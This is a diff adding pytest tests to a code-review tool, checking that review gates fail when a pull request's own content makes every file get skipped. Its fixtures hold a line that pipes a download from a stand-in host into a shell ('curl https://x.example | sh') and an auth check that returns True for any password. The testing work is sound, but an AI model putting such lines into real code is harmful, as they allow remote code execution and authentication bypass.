@@ -133,6 +133,93 @@ def test_a_partial_review_names_what_it_did_not_see(
     assert "reviewbot: not reviewed: 1 file(s): big.py" in gate.stderr
 
 
+def new_file(path: str, *lines: str) -> str:
+    added = "".join(f"+{ln}\n" for ln in lines)
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
+        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{added}"
+    )
+
+
+# Files the PR's own content hides from review (the hostile review's d2.diff and d1.diff), and
+# files skipped by their path alone.
+GENERATED = new_file(
+    "src/auth.py", "# This file is auto-generated", "def check(pw):", "    return True"
+)
+MINIFIED = new_file(
+    "tools/hook.py", "import os; os.system('curl https://x.example | sh')".ljust(520)
+)
+BY_PATH = new_file("package-lock.json", "{}") + new_file("vendor/lib.py", "x = 1")
+HIDDEN_LINE = (
+    "reviewbot: error: nothing was reviewed: every changed file was skipped, 1 for what its own "
+    "content says: {}; `--include GLOB` reviews them"
+)
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+@pytest.mark.parametrize(
+    ("diff", "named"),
+    [
+        (GENERATED, "src/auth.py (generated file (its header says so))"),
+        (MINIFIED, "tools/hook.py (minified (very long lines))"),
+        (BY_PATH + GENERATED, "src/auth.py (generated file (its header says so))"),
+    ],
+)
+def test_a_gate_fails_when_the_prs_own_content_had_every_file_skipped(
+    fake_responses: FakeResponses, tmp_path: Path, fmt: str, diff: str, named: str
+) -> None:
+    p = review(fake_responses, tmp_path, diff, "--format", fmt, "--fail-on", "nit")
+    assert p.returncode == 1, p.stderr
+    assert fake_responses.seen == []
+    assert p.stderr.strip().splitlines()[-1] == HIDDEN_LINE.format(named)
+    if fmt == "json":
+        assert json.loads(p.stdout)["status"] == "failed"
+    elif fmt == "sarif":
+        log = json.loads(p.stdout)
+        assert list(SARIF.iter_errors(log)) == []
+        [invocation] = log["runs"][0]["invocations"]
+        assert invocation["executionSuccessful"] is False
+        levels = {
+            n["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]: n["level"]
+            for n in invocation["toolExecutionNotifications"]
+            if "locations" in n
+        }
+        path = named.split(" ")[0]
+        assert levels[path] == "error"  # what the PR hid; a lock file stays a note
+        assert all(v == "note" for k, v in levels.items() if k != path)
+    else:  # no output that could read as "no findings"
+        assert p.stdout == ""
+
+
+@pytest.mark.parametrize("fail_on", [(), ("--fail-on", "none")])
+def test_without_a_gate_a_content_skip_is_still_nothing_to_review(
+    fake_responses: FakeResponses, tmp_path: Path, fail_on: tuple[str, ...]
+) -> None:
+    p = review(fake_responses, tmp_path, GENERATED, "--format", "sarif", *fail_on)
+    assert p.returncode == 0, p.stderr
+    assert json.loads(p.stdout)["runs"][0]["invocations"][0]["executionSuccessful"] is True
+    assert "reviewbot: not reviewed: 1 file(s): src/auth.py (generated file" in p.stderr
+
+
+def test_a_gate_passes_a_diff_skipped_by_path_rules_alone(
+    fake_responses: FakeResponses, tmp_path: Path
+) -> None:
+    p = review(fake_responses, tmp_path, BY_PATH, "--format", "sarif", "--fail-on", "nit")
+    assert p.returncode == 0, p.stderr
+    assert json.loads(p.stdout)["runs"][0]["invocations"][0]["executionSuccessful"] is True
+    assert "reviewbot: not reviewed: 2 file(s): package-lock.json (lock file" in p.stderr
+
+
+def test_include_reviews_what_the_content_would_have_hidden(
+    fake_responses: FakeResponses, tmp_path: Path
+) -> None:
+    hole = finding(path="src/auth.py", line=3, code="    return True", title="Accepts any password")
+    args = ("--format", "text", "--fail-on", "major", "--include", "src/auth.py")
+    p = review(fake_responses, tmp_path, GENERATED, *args, findings=(hole,))
+    assert p.returncode == 3, p.stderr
+    assert p.stdout == "src/auth.py:3:1: major: Accepts any password\n"
+
+
 def test_a_whole_review_is_a_successful_sarif_run_that_notes_the_default_skips() -> None:
     p = main_cli(
         "review",
